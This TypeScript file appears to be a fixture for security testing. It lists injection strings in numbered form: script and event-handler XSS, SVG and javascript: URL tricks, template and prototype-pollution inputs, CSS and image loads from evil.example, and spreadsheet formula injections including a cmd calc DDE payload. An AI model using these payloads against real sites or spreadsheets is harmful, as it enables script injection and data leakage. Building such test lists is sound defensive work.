/**
 * Texts that would do something where a page takes text for markup, code, style or an address. Each calls `hit` with a
 * number of its own where it runs, and bears that number where it is shown.
 */

const shapes: readonly string[] = [
  // Scripts
  '<script>hit(#)</script>',
  '"><script>hit(#)</script>',
  "'><script>hit(#)</script>",
  '</script><script>hit(#)</script>',
  '</title><script>hit(#)</script>',
  '</textarea><script>hit(#)</script>',
  '</style><script>hit(#)</script>',
  '<!--><script>hit(#)</script>-->',
  '<![CDATA[><script>hit(#)</script>]]>',
  '<scr<script>ipt>hit(#)</scr</script>ipt>',
  '<ScRiPt/x>hit(#)</sCrIpT>',
  '<script src="data:text/javascript,hit(#)"></script>',
  '<script src=//evil.example/#.js></script>',
  '<script type="module">hit(#)</script>',
  '\\u003cscript\\u003ehit(#)\\u003c/script\\u003e',
  '&lt;script&gt;hit(#)&lt;/script&gt;',
  '&#60;script&#62;hit(#)&#60;/script&#62;',
  '%3Cscript%3Ehit(#)%3C/script%3E',
  // Handlers
  '<img src=x onerror=hit(#)>',
  '"><img src=x onerror=hit(#)>',
  "'><img src=x onerror='hit(#)'>",
  '`><img src=x onerror=`hit(#)`>',
  '" onmouseover="hit(#)',
  "' onfocus='hit(#)' autofocus='",
  '" style="animation-name:x" onanimationstart="hit(#)',
  '<body onload=hit(#)>',
  '<input autofocus onfocus=hit(#)>',
  '<details open ontoggle=hit(#)>',
  '<video><source onerror=hit(#)></video>',
  '<audio src=x onerror=hit(#)>',
  '<marquee onstart=hit(#)>',
  '<button popovertarget=p onclick=hit(#)>press #</button>',
  '<iframe onload=hit(#)></iframe>',
  '<object data=x onerror=hit(#)></object>',
  // SVG and MathML
  '<svg onload=hit(#)>',
  '<svg/onload=hit(#)//',
  '<svg><script>hit(#)</script></svg>',
  '<svg><script href="data:,hit(#)"/></svg>',
  '<svg><animate onbegin=hit(#) attributeName=x dur=1s>',
  '<svg><a href="javascript:hit(#)"><text y=20>press #</text></a></svg>',
  '<svg><set attributeName="onload" to="hit(#)"/></svg>',
  '</text></svg><img src=x onerror=hit(#)>',
  '<svg><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="hit(#)"/></foreignObject></svg>',
  '<math href="javascript:hit(#)">press #</math>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit(#)/>#x"/></svg>',
  // Addresses
  'javascript:hit(#)',
  'JaVaScRiPt:hit(#)',
  'java script:hit(#)',
  'data:text/html,<script>hit(#)</script>',
  'vbscript:hit(#)',
  '<a href="javascript:hit(#)">press #</a>',
  '<base href="https://evil.example/#/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit(#)">',
  '<link rel=stylesheet href=//evil.example/#.css>',
  '<form action="javascript:hit(#)"><button>press #</button></form>',
  '<iframe src="javascript:hit(#)"></iframe>',
  '<iframe srcdoc="<script>parent.hit(#)</script>"></iframe>',
  // Templates and code
  '{{constructor.constructor("hit(#)")()}}',
  '${hit(#)}',
  '{count}{name}{day}#',
  '#{hit(#)}',
  '<%= hit(#) %>',
  '[[hit(#)]]',
  "');hit(#);//",
  '";hit(#);//',
  '`+hit(#)+`',
  '__proto__[#]',
  'constructor',
  // Style
  '<style>*{background:url(//evil.example/#.png)}</style>',
  '</style><style>body{display:none}/*#*/',
  'red;background:url(https://evil.example/#.png)',
  '<div style="background:url(//evil.example/#.png)">',
  '<img src="https://evil.example/#.png">',
  '@import url(//evil.example/#.css);',
  // Formulas
  '=HYPERLINK("https://evil.example/#","press")',
  '+cmd|"/c calc"!A#',
  '@SUM(1+#)',
  '-2+3+cmd!A#',
  '=IMPORTXML("https://evil.example/#","//a")',
  // Letters
  '‏<img src=x onerror=hit(#)>‎',
  '＜script＞hit(#)＜/script＞',
  'ﾠ\u200b\u200d\u2060#',
  'Z̶̢̛͚a̸͇l̵͓g̸͔o̶̙ #',
  '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 #',
  'عندان <b onclick=hit(#)>مركز</b>',
  'İSTANBUL ß ﬁ #',
  'A#' + 'W'.repeat(200),
]

/** The texts; the one at `i` has the number `i + 1000`, which no other text of the page has by chance. */
export const PAYLOADS: readonly string[] = shapes.map((shape, i) => shape.replaceAll('#', String(i + 1000)))

/** Addresses that are web addresses, with as much else as fits into one. */
export const WEB_ADDRESSES: readonly string[] = [
  'https://evil.example/?a=javascript:hit(900)',
  "https://evil.example/'onmouseover='hit(901)",
  'https://evil.example/#javascript:hit(902)',
  'https://evil.example/%22%3E%3Cscript%3Ehit(903)%3C/script%3E',
]
